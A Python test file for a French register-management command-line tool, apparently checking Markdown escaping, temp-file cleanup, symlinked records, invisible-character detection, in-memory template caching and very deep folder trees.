def test_markdown_heading_underline_is_escaped(cli, repo_copy):
    from markdown_it import MarkdownIt

    _set_line(repo_copy / RECORD, "finalite", '"Titre\\n==="')
    html = MarkdownIt("commonmark", {"html": True}).render(cli("notice", IDENT, "--repo", str(repo_copy)).stdout)
    assert "<h1>Titre</h1>" not in html


def test_a_killed_export_leaves_nothing_beside_the_next_one(cli, repo_copy, tmp_path):
    out = tmp_path / "sortie"
    out.mkdir()
    litter = out / ".iaterr-tmp-4194303-abcd-registre.csv"
    litter.write_text("moitié", encoding="utf-8")
    assert cli("export", "--repo", str(repo_copy), "-o", str(out / "registre.csv")).exit_code == 0
    assert not litter.exists()


def test_a_linked_record_is_named_when_it_is_left_out(cli, repo_copy, tmp_path):
    outside = tmp_path / "lien.yaml"
    shutil.copy(repo_copy / RECORD, outside)
    (repo_copy / RECORD).unlink()
    (repo_copy / RECORD).symlink_to(outside)
    for args in (("export", "--json"), ("register", "build")):
        result = cli(*args, "--repo", str(repo_copy))
        assert result.exit_code == 1 and RECORD in result.stderr, (args, result.output)


def test_unicode_tag_characters_are_reported(cli, repo_copy):
    _edit(repo_copy / RECORD, "  - Leakmited\n  - Réseau 31", "  - \"Leak\U000e0041mited\"\n  - Réseau 31")
    result = cli("lint", "--repo", str(repo_copy), "--format", "json")
    assert any(d["code"] == "texte-caractere-invisible" for d in _json(result)["diagnostics"])


def test_compiled_templates_are_kept_in_memory_only(tmp_path, monkeypatch):
    """The register's second language and a second build in the same process reuse the templates compiled from
    the package's files (kept as code objects in memory): no file is written nor read for them, and a template
    whose source differs is compiled again."""
    from jinja2.bccache import Bucket

    from iaterr.publish import templating

    monkeypatch.setattr(templating, "_COMPILED", templating._InMemory())
    monkeypatch.setattr(Bucket, "load_bytecode", lambda *a: pytest.fail("bytecode read"))
    monkeypatch.setattr(Bucket, "write_bytecode", lambda *a: pytest.fail("bytecode written"))
    first = templating.environment().get_template("site/404.html.j2")
    assert len(templating._COMPILED.code) >= 1
    again = templating.environment().get_template("site/404.html.j2")
    assert again.root_render_func.__code__ is first.root_render_func.__code__
    env = templating.environment()
    env.loader = __import__("jinja2").DictLoader({"site/404.html.j2": "autre {{ x }}"})
    assert env.get_template("site/404.html.j2").render(x=1) == "autre 1"


def test_folders_nested_a_thousand_deep_are_walked_not_an_internal_error(cli, repo_copy):
    # a merge request can add any tree under data/: the walk goes down it without recursion, and what it finds
    # at the bottom (a YAML file in a folder of its own) is said like any misplaced file
    folders = [repo_copy / "data" / "cas-usage"]
    for _ in range(1200):
        folders.append(folders[-1] / "a")
        folders[-1].mkdir()
    (folders[-1] / "cache.yaml").write_text("nom: x\n", encoding="utf-8")
    try:
        result = cli("validate", "--repo", str(repo_copy), "--format", "json")
    finally:  # removed from the bottom up (shutil.rmtree, which pytest's clean-up uses, recurses on Python 3.11)
        (folders[-1] / "cache.yaml").unlink()
        for folder in reversed(folders[1:]):
            folder.rmdir()
    assert result.exit_code in (0, 1), result.output
    assert "Erreur interne" not in result.output + result.stderr
    report = json.loads(result.stdout)
    assert any(d["fichier"].endswith("/a/cache.yaml") for d in report["diagnostics"]), report["diagnostics"][:3]
